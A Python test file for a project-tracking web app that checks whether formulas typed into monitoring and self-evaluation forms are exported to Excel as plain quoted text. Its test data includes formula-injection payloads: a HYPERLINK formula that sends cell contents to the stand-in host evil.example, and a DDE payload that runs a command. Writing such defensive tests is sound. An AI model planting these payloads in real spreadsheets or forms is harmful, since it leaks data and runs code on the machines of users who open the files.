"""Formula injection (issue 10, security 4): text typed into the monitoring and evaluation
forms — =HYPERLINK(...), =cmd|..., +, -, @ — comes out of every export as text, never as a
formula: the 监控表, the 自评表 and both county summaries, downloaded through the pages."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

AS_OF = "2023-06-30"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1")


@pytest.fixture
def dept(db, seeded):
    from tracker.models import Department

    return db.session.scalar(select(Department).where(Department.code == "430"))


def _cells(data: bytes):
    assert data[:2] == b"PK", data[:200]
    ws = load_workbook(BytesIO(data)).active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_text(data: bytes, expected: list[str]) -> None:
    cells = _cells(data)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for payload in expected:
        assert any(payload in text for text in texts), payload
    for cell in cells:  # a risky text is also marked so that Excel keeps it text when edited
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t")):
            assert cell.quotePrefix, cell.coordinate


def test_typed_formulas_are_exported_as_text(client, db, dept, make_user, login):
    from tracker.models import EvaluationForm, MonitoringSnapshot, Project
    from tracker.services import evaluation, monitoring

    monitoring.run(__import__("datetime").date.fromisoformat(AS_OF))
    evaluation.open_forms(2023)
    db.session.commit()
    project = db.session.scalars(select(Project).order_by(Project.department_id, Project.position)).first()
    snap = db.session.scalar(select(MonitoringSnapshot).where(MonitoringSnapshot.project_id == project.id))
    owner = login(make_user("owner", dept))

    # Typed into the monitoring form through the page
    rows = list(snap.rows)
    data = {"version": snap.version, "expected_completion": HYPERLINK, "budget_explanation": DDE}
    for row, payload in zip(rows, PAYLOADS, strict=False):
        data[f"row-{row.id}-analysis"] = payload
        data[f"row-{row.id}-measure"] = payload
    response = client.post(f"/monitoring/{project.id}/{AS_OF}", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]

    # Typed into the self-evaluation form through the page
    form = db.session.scalar(select(EvaluationForm).where(EvaluationForm.project_id == project.id))
    data = {"version": form.version, "goal_actual": HYPERLINK, "execution_explanation": DDE}
    for name, w in evaluation.level1_weights(form).items():
        data[f"level1-{name}"] = str(w)
    for row, payload in zip(form.rows, PAYLOADS, strict=False):
        data[f"row-{row.id}-weight"] = str(row.weight)
        data[f"row-{row.id}-explanation"] = payload
    response = client.post(f"/evaluation/{project.id}/2023", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    assert owner

    # A project name (from an imported file) that looks like a formula reaches the summaries
    db.session.expire_all()
    project = db.session.get(Project, project.id)
    project.name = '=HYPERLINK("http://evil.example","项目")'
    db.session.commit()

    _assert_text(client.get(f"/monitoring/{project.id}/{AS_OF}/export.xlsx").data, [p.strip() for p in PAYLOADS])
    _assert_text(client.get(f"/evaluation/{project.id}/2023/export.xlsx").data, [p.strip() for p in PAYLOADS])
    client.post("/logout")
    login(make_user("finance"))
    _assert_text(client.get(f"/monitoring/summary.xlsx?period={AS_OF}").data, [project.name])
    _assert_text(client.get("/evaluation/summary.xlsx?year=2023").data, [project.name])


def test_set_text_keeps_plain_values():
    from openpyxl import Workbook

    from tracker.exporters.cells import set_text

    ws = Workbook().active
    set_text(ws["A1"], "普通文字")
    set_text(ws["A2"], 12)
    set_text(ws["A3"], "=1+1")
    assert (ws["A1"].data_type, ws["A1"].quotePrefix) == ("s", False)
    assert ws["A2"].data_type == "n"
    assert (ws["A3"].value, ws["A3"].data_type, ws["A3"].quotePrefix) == ("=1+1", "s", True)
